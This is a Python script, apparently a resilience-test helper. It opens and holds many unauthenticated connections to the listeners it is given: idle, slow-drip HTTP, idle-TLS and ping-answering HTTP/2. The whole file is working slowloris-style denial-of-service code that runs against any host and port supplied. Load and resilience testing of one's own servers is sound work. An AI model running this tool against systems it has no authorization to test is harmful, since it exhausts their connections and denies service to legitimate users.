"""Opens connections to listeners and keeps them open as long as it can, without ever authenticating.

Usage: hostile.py CONNECTIONS RATE HOST:PORT...

Each listener gets RATE connections in a second until CONNECTIONS are open. A connection that the listener closes is replaced
at the same rate. Of ten connections, four are idle, four send a byte of a request now and then, one is idle after the TLS
handshake, and one is an HTTP/2 connection that answers pings. Prints `loaded` once it has opened as many as requested to
each listener.
"""

import asyncio
import resource
import ssl
import sys

BYTE_INTERVAL = 2
REQUEST = b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-padding: " + b"a" * 100_000
HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HTTP2_SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
PING = 6


def tls(protocols):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(protocols)
    return context


TLS, HTTP2 = tls(["http/1.1"]), tls(["h2"])


async def until_closed(reader):
    while await reader.read(65536):
        pass


async def send_slowly(reader, writer):
    closed = asyncio.ensure_future(until_closed(reader))
    for byte in REQUEST:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.wait([closed], timeout=BYTE_INTERVAL)
        if closed.done():
            return await closed


async def answer_pings(reader, writer):
    writer.write(HTTP2_PREFACE + HTTP2_SETTINGS)
    while True:
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] == PING and not head[4] & 1:
            writer.write(b"\x00\x00\x08\x06\x01\x00\x00\x00\x00" + payload)
            await writer.drain()


async def connect(host, port, kind):
    context = {"tls": TLS, "http2": HTTP2}.get(kind)
    writer = None
    try:
        reader, writer = await asyncio.open_connection(host, port, ssl=context)
        if kind == "slow":
            await send_slowly(reader, writer)
        elif kind == "http2":
            await answer_pings(reader, writer)
        else:
            await until_closed(reader)
    # The listener refuses or closes connections, which is what it should do.
    except (OSError, EOFError):
        pass
    finally:
        if writer is not None:
            writer.transport.abort()


KINDS = ["idle", "slow"] * 4 + ["tls", "http2"]


async def attack(address, count, rate, loaded):
    host, port = address.rsplit(":", 1)
    host = host.strip("[]")
    connections, opened = set(), 0
    while True:
        for _ in range(max(1, rate // 10)):
            if len(connections) < count:
                connection = connect(host, int(port), KINDS[opened % len(KINDS)])
                task = asyncio.ensure_future(connection)
                connections.add(task)
                task.add_done_callback(connections.discard)
                opened += 1
        if opened >= count:
            loaded.set()
        await asyncio.sleep(0.1)


async def main():
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    count, rate, addresses = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
    loaded = [asyncio.Event() for _ in addresses]
    attacks = [
        asyncio.ensure_future(attack(address, count, rate, event))
        for address, event in zip(addresses, loaded)
    ]
    for event in loaded:
        await event.wait()
    print("loaded", flush=True)
    await asyncio.gather(*attacks)


asyncio.run(main())
